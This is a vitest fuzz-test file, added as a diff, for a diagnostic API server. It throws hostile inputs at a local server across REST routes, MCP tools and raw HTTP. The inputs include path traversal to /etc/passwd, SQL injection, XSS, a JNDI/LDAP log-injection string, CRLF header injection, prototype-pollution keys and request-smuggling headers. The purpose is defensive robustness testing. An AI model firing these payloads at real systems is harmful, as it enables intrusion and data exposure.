@@ -1,0 +1,467 @@
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { seeded } from '../../bench/seeded.js';
+import { OPERATIONS, type OperationSpec } from '../../src/contract/operations.js';
+import { toolInputSchema } from '../../src/mcp/tool-schemas.js';
+import { mcpPost, rawExchange } from '../helpers/raw-http.js';
+import { ROOT } from './build.js';
+import { buildFixtureBundle, FIX, type TestApi, testApi } from './fixture.js';
+
+/**
+ * A bounded fuzz run over a listening server: a fixed seed, every REST route and every MCP tool, with
+ * hostile strings, traversal attempts, wrong types, oversize values and malformed HTTP over a raw
+ * socket. Whatever the input, the server answers: never a 5xx, never a JSON-RPC internal error, every
+ * REST error a problem document, no stack trace or server path in any body.
+ */
+
+const SEED = 16;
+const PER_ROUTE = 80;
+const PER_TOOL = 40;
+const RAW = 120;
+
+let api: TestApi;
+let bundle: string;
+let base: string;
+let authorization: string;
+let sessionId: string;
+const random = seeded(SEED);
+const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
+
+const HOSTILE = [
+  '',
+  ' ',
+  '\t\n',
+  'x'.repeat(101),
+  'x'.repeat(301),
+  'y'.repeat(5000),
+  '../../../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  '/etc/passwd',
+  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
+  '....//....//',
+  '\u0000',
+  'a\u0000b',
+  'x\ud800',
+  '\udfff',
+  '\ud83d\ude00'.repeat(40),
+  '\u202eevil',
+  '<script>alert(1)</script>',
+  "' OR '1'='1' --",
+  '"; DROP TABLE accounts; --',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection payload, sent as is
+  '${jndi:ldap://example.org/a}',
+  '{{7*7}}',
+  '%',
+  '%%',
+  '%ZZ',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'NaN',
+  'Infinity',
+  '-1',
+  '0',
+  '1e309',
+  '9'.repeat(40),
+  'null',
+  'E9',
+  'Demotherm',
+  'DEMOTHERM',
+  FIX.procedureChunk,
+  FIX.alpha,
+  'DT-A100-E',
+  '\r\nX-Injected: 1',
+];
+const NUMBERS = [0, -1, 1, 2, 3, 1.5, -0, 1e308, Number.MAX_SAFE_INTEGER, 10_000, 4096, 99999];
+const OTHERS: unknown[] = [
+  null,
+  true,
+  false,
+  [],
+  {},
+  [1, 2],
+  { a: { b: { c: 1 } } },
+  { __proto__: { x: 1 } },
+];
+
+function hostileValue(schema: { type?: unknown } | undefined): unknown {
+  const r = random();
+  if (r < 0.55) return pick(HOSTILE);
+  if (r < 0.75) return pick(NUMBERS);
+  if (r < 0.9) return pick(OTHERS);
+  // Sometimes a value of the declared type, so that deeper paths are reached.
+  return schema?.type === 'integer' || schema?.type === 'number' ? pick(NUMBERS) : pick(HOSTILE);
+}
+
+const VALID: Record<string, () => unknown> = {
+  brand: () => pick([FIX.brand, 'demotherm', 'Nope']),
+  model: () => pick(['DT-A100-E', 'DT-A200-E', 'Alpha', 'DT-A100-TR']),
+  code: () => pick(['E9', 'E01', 'P1', 'X1', 'e9', 'E09']),
+  error_code: () => pick(['E9', 'E01', 'P1', 'X1', 'e9', 'E09']),
+  chunk_id: () => pick([FIX.procedureChunk, `${FIX.alpha}.p2.1`]),
+  document_id: () => pick([FIX.alpha, FIX.beta, FIX.gamma]),
+  page: () => pick([1, 2, 3, 4, 99]),
+  session_id: () => sessionId,
+  q: () => pick(['flow switch', 'E9', 'thermistor']),
+};
+
+/** Input for an operation: each field valid, hostile or missing; sometimes an unknown field. */
+function fuzzInput(op: OperationSpec): Record<string, unknown> {
+  const schema = toolInputSchema(op).schema as { properties?: Record<string, { type?: unknown }> };
+  const input: Record<string, unknown> = {};
+  for (const [name, prop] of Object.entries(schema.properties ?? {})) {
+    const r = random();
+    if (r < 0.15) continue;
+    input[name] = r < 0.5 && VALID[name] ? VALID[name]!() : hostileValue(prop);
+  }
+  if (random() < 0.1) input[pick(['extra', '__proto__', 'constructor'])] = pick(HOSTILE);
+  return input;
+}
+
+function pathOf(op: OperationSpec, input: Record<string, unknown>): string {
+  return op.path.replace(/:([a-z_]+)/g, (_m, name: string) => {
+    const value = input[name];
+    delete input[name];
+    const text = typeof value === 'object' ? JSON.stringify(value) : String(value ?? '');
+    // Mostly encoded as a client would; sometimes raw, to try traversal and bad escapes.
+    if (random() < 0.8) {
+      try {
+        return encodeURIComponent(text);
+      } catch {
+        return 'x';
+      }
+    }
+    return text.replace(/[\s?#]/g, '');
+  });
+}
+
+interface Failure {
+  request: string;
+  status: number;
+  why: string;
+  body: string;
+}
+
+function leaks(body: string): string | null {
+  if (/\n\s+at .+[:(]/.test(body) || /\bat .+\.(js|ts|mjs):\d+/.test(body)) return 'stack trace';
+  if (body.includes(ROOT) || body.includes(path.dirname(bundle)) || body.includes('node_modules'))
+    return 'server path';
+  return null;
+}
+
+/** What is wrong with a REST response, or null. */
+function checkRest(status: number, type: string | null, body: string): string | null {
+  if (status >= 500) return '5xx';
+  const leak = leaks(body);
+  if (leak) return leak;
+  if (status < 400) return null;
+  if (!type?.startsWith('application/problem+json')) return `error as ${type}`;
+  try {
+    const doc = JSON.parse(body) as { code?: unknown; status?: unknown; type?: unknown };
+    if (
+      typeof doc.code !== 'string' ||
+      doc.status !== status ||
+      doc.type !== `urn:heatsource:problem:${doc.code}`
+    )
+      return 'not a problem document';
+  } catch {
+    return 'problem body is not JSON';
+  }
+  return null;
+}
+
+async function runAll<T>(items: T[], worker: (item: T) => Promise<void>, concurrency = 8): Promise<void> {
+  let next = 0;
+  await Promise.all(
+    Array.from({ length: concurrency }, async () => {
+      while (next < items.length) await worker(items[next++]!);
+    }),
+  );
+}
+
+beforeAll(async () => {
+  bundle = await buildFixtureBundle();
+  api = await testApi(bundle, {
+    timeouts: { headersMs: 1000, requestMs: 2000, keepAliveMs: 5000, idleMs: 10_000, checkEveryMs: 200 },
+  });
+  authorization = (await api.key('fuzz')).authorization;
+  base = await api.app.listen({ host: '127.0.0.1', port: 0 });
+  const created = await fetch(`${base}/v2/diagnostic-sessions`, {
+    method: 'POST',
+    headers: { authorization, 'content-type': 'application/json', 'idempotency-key': 'fuzz-session' },
+    body: JSON.stringify({ brand: FIX.brand, model: 'DT-A100-E', equipment: 'air_water', error_code: 'E9' }),
+  });
+  sessionId = ((await created.json()) as { id?: string; session_id?: string }).id ?? 'ds_missing';
+}, 120_000);
+afterAll(() => api.close());
+
+describe('fuzzing every route and tool', () => {
+  it('answers every REST route with a problem document or a success, never a 5xx', async () => {
+    const requests: { method: string; url: string; headers: Record<string, string>; body?: string }[] = [];
+    for (const op of OPERATIONS) {
+      for (let i = 0; i < PER_ROUTE; i++) {
+        const input = fuzzInput(op);
+        let url = pathOf(op, input);
+        const headers: Record<string, string> = {};
+        if (random() < 0.9) headers.authorization = authorization;
+        if (random() < 0.3) headers['idempotency-key'] = pick([...HOSTILE.slice(0, 12), `k-${i}`]);
+        if (random() < 0.2) headers.accept = pick(['image/png', 'text/html', '*/*', 'image/*;q=0', '']);
+        let body: string | undefined;
+        const method = random() < 0.05 ? pick(['PUT', 'DELETE', 'PATCH']) : op.method;
+        if (op.method === 'GET') {
+          const qs = new URLSearchParams();
+          for (const [k, v] of Object.entries(input))
+            qs.set(k, typeof v === 'object' ? JSON.stringify(v) : String(v));
+          if (qs.size > 0) url += `?${qs}`;
+        } else {
+          const r = random();
+          body =
+            r < 0.8
+              ? JSON.stringify(input)
+              : pick([
+                  '',
+                  '{',
+                  '[]',
+                  'null',
+                  '"x"',
+                  '{"a":'.repeat(500),
+                  JSON.stringify({ big: 'z'.repeat(70_000) }),
+                ]);
+          headers['content-type'] =
+            random() < 0.9
+              ? 'application/json'
+              : pick(['text/plain', 'application/xml', 'application/json; charset=latin1', '']);
+        }
+        requests.push({ method, url, headers, body });
+      }
+    }
+    const failures: Failure[] = [];
+    let sent = 0;
+    await runAll(requests, async (r) => {
+      let res: Response;
+      try {
+        res = await fetch(`${base}${r.url}`, { method: r.method, headers: r.headers, body: r.body });
+      } catch {
+        return; // A request the client itself refuses to send (a header with a line break).
+      }
+      sent++;
+      const text = await res.text();
+      const why = checkRest(res.status, res.headers.get('content-type'), text);
+      if (why)
+        failures.push({
+          request: `${r.method} ${r.url}`.slice(0, 200),
+          status: res.status,
+          why,
+          body: text.slice(0, 300),
+        });
+    });
+    expect(failures.slice(0, 5)).toEqual([]);
+    expect(sent).toBeGreaterThan(OPERATIONS.length * PER_ROUTE * 0.9);
+  }, 120_000);
+
+  it('answers every MCP tool call with a result or a tool error, never an internal error', async () => {
+    const list = await mcp({ jsonrpc: '2.0', id: 0, method: 'tools/list', params: {} });
+    const tools = (list.body.result as { tools: { name: string }[] }).tools.map((t) => t.name);
+    expect(tools.length).toBeGreaterThanOrEqual(OPERATIONS.length);
+    const calls: unknown[] = [];
+    let id = 1;
+    for (const name of tools) {
+      const op = OPERATIONS.find((o) => o.name === name);
+      for (let i = 0; i < PER_TOOL; i++) {
+        const args = op ? fuzzInput(op) : { x: pick(HOSTILE) };
+        if (random() < 0.2) args.request_id = pick(HOSTILE);
+        calls.push({ jsonrpc: '2.0', id: id++, method: 'tools/call', params: { name, arguments: args } });
+      }
+    }
+    // Broken envelopes too.
+    for (let i = 0; i < 40; i++) {
+      calls.push(
+        pick<unknown>([
+          { jsonrpc: '2.0', id: id++, method: 'tools/call', params: { name: pick(HOSTILE), arguments: {} } },
+          {
+            jsonrpc: '2.0',
+            id: id++,
+            method: 'tools/call',
+            params: { name: 'diagnose', arguments: pick(OTHERS) },
+          },
+          { jsonrpc: '2.0', id: pick<unknown>([null, {}, [], 'x'.repeat(300)]), method: 'tools/list' },
+          { jsonrpc: '1.0', id: id++, method: 'tools/list' },
+          { jsonrpc: '2.0', id: id++, method: pick(HOSTILE) },
+          {
+            jsonrpc: '2.0',
+            id: id++,
+            method: 'resources/read',
+            params: { uri: `heatsource://documents/${pick(HOSTILE)}/pages/1` },
+          },
+          [],
+          'x',
+        ]),
+      );
+    }
+    const failures: Failure[] = [];
+    await runAll(calls, async (call) => {
+      const r = await mcp(call);
+      const text = JSON.stringify(r.body);
+      const rpcError = (r.body as { error?: { code?: number } } | null)?.error;
+      const why =
+        r.status >= 500
+          ? '5xx'
+          : rpcError?.code === -32603
+            ? 'JSON-RPC internal error'
+            : (leaks(text) ??
+              (r.status >= 400 && !rpcError && !r.type?.startsWith('application/problem+json')
+                ? `error as ${r.type}`
+                : null));
+      if (why)
+        failures.push({
+          request: JSON.stringify(call).slice(0, 200),
+          status: r.status,
+          why,
+          body: text.slice(0, 300),
+        });
+      const result = (r.body as { result?: { isError?: boolean; structuredContent?: { code?: unknown } } })
+        .result;
+      if (result?.isError && typeof result.structuredContent?.code !== 'string') {
+        failures.push({
+          request: JSON.stringify(call).slice(0, 200),
+          status: r.status,
+          why: 'tool error without a problem',
+          body: text.slice(0, 300),
+        });
+      }
+      if (result?.isError && result.structuredContent?.code === 'internal_error') {
+        failures.push({
+          request: JSON.stringify(call).slice(0, 200),
+          status: r.status,
+          why: 'internal_error',
+          body: text.slice(0, 300),
+        });
+      }
+    });
+    expect(failures.slice(0, 5)).toEqual([]);
+  }, 120_000);
+
+  it('answers malformed HTTP over a raw socket with a problem document, or closes', async () => {
+    const lines = [
+      'GET /v1/me HTTP/1.1',
+      'POST /v1/diagnostic HTTP/1.1',
+      'GET /v1/procedure/%ZZ HTTP/1.1',
+      'GET /../../etc/passwd HTTP/1.1',
+      'GET /v1/pdf-snapshot/..%2F..%2Fetc%2Fpasswd/1 HTTP/1.1',
+      'GET http://evil.example/v1/me HTTP/1.1',
+      'GET * HTTP/1.1',
+      'BREW /coffee HTTP/1.1',
+      'GET /v1/me HTTP/1.0',
+      'GET /v1/me HTTP/2.0',
+      'GET /v1/me',
+      'G\u0000T / HTTP/1.1',
+      `GET /${'a'.repeat(9000)} HTTP/1.1`,
+    ];
+    const headerSets = [
+      'Host: x',
+      '',
+      `Authorization: ${authorization}`,
+      'Host: x\r\nContent-Length: -1',
+      'Host: x\r\nContent-Length: abc',
+      'Host: x\r\nContent-Length: 3\r\nContent-Length: 4',
+      'Host: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 3',
+      'Host: x\r\nTransfer-Encoding: gzip, chunked',
+      'Host: x\r\nBad Header: 1',
+      'Host: x\r\n: empty-name',
+      'Host: x\r\nX-Long: ' + 'h'.repeat(20_000),
+      'Host: x\r\nContent-Type: application/json\r\nContent-Length: 10',
+      'Host: x\r\n\tfolded: 1',
+    ];
+    const bodies = ['', '{', '{"brand":"Demotherm"}', '0\r\n\r\n', 'zz\r\nabc\r\n', '\u0000\u0001\u0002'];
+    const failures: Failure[] = [];
+    const cases = Array.from(
+      { length: RAW },
+      () => `${pick(lines)}\r\n${pick(headerSets)}\r\n\r\n${pick(bodies)}`,
+    );
+    await runAll(
+      cases,
+      async (raw) => {
+        // Half-closed after writing, as a client that sent all it will send.
+        const r = await rawExchange(base, raw, 5000, { endAfterWrite: true });
+        const why =
+          !r.closed && r.status === 0
+            ? 'no answer and not closed'
+            : r.status >= 500
+              ? '5xx'
+              : r.status >= 400
+                ? checkRest(r.status, r.headers['content-type'] ?? null, r.body)
+                : leaks(r.text);
+        if (why)
+          failures.push({
+            request: JSON.stringify(raw.slice(0, 150)),
+            status: r.status,
+            why,
+            body: r.text.slice(0, 300),
+          });
+      },
+      6,
+    );
+    expect(failures.slice(0, 5)).toEqual([]);
+  }, 120_000);
+});
+
+function mcp(message: unknown) {
+  return mcpPost(`${base}/mcp`, authorization, message);
+}
+
+describe('what holds under concurrency', () => {
+  it('charges one unit for many concurrent retries with one Idempotency-Key', async () => {
+    const k = await api.key('retries', { quota: 1000 });
+    const send = () =>
+      fetch(`${base}/v1/diagnostic`, {
+        method: 'POST',
+        headers: {
+          authorization: k.authorization,
+          'content-type': 'application/json',
+          'idempotency-key': 'same',
+        },
+        body: JSON.stringify({ brand: FIX.brand, model: 'DT-A100-E', error_code: 'E9' }),
+      }).then((r) => r.status);
+    const statuses = await Promise.all(Array.from({ length: 300 }, send));
+    expect(statuses.every((s) => s === 200 || s === 409)).toBe(true);
+    expect(statuses.filter((s) => s === 200).length).toBeGreaterThan(0);
+    expect(await api.state.ledger({ account_id: k.accountId })).toHaveLength(1);
+  }, 60_000);
+
+  it('allows exactly the quota under concurrent calls', async () => {
+    const k = await api.key('quota-50', { quota: 50 });
+    const send = () =>
+      fetch(`${base}/v1/diagnostic`, {
+        method: 'POST',
+        headers: { authorization: k.authorization, 'content-type': 'application/json' },
+        body: JSON.stringify({ brand: FIX.brand, model: 'DT-A100-E', error_code: 'E9' }),
+      }).then((r) => r.status);
+    const statuses = await Promise.all(Array.from({ length: 200 }, send));
+    expect(statuses.filter((s) => s === 200)).toHaveLength(50);
+    expect(statuses.filter((s) => s === 429)).toHaveLength(150);
+    expect((await api.state.quota(k.accountId)).used).toBe(50);
+  }, 60_000);
+
+  it("answers 404 to every read or write of another account's session", async () => {
+    const other = await api.key('intruder');
+    const paths = ['', '/summary', '/responses', '/undo', '/close'];
+    for (const p of paths) {
+      const res = await fetch(`${base}/v2/diagnostic-sessions/${sessionId}${p}`, {
+        method: p === '' || p === '/summary' ? 'GET' : 'POST',
+        headers: {
+          authorization: other.authorization,
+          'content-type': 'application/json',
+          'idempotency-key': `x${p}`,
+        },
+        body:
+          p === '' || p === '/summary'
+            ? undefined
+            : JSON.stringify(p === '/responses' ? { action_id: 'a', value: true } : {}),
+      });
+      expect(res.status, p).toBe(404);
+      expect(((await res.json()) as { code: string }).code).toBe('session_not_found');
+    }
+    const own = await fetch(`${base}/v2/diagnostic-sessions/${sessionId}`, { headers: { authorization } });
+    expect(own.status).toBe(200);
+  });
+});
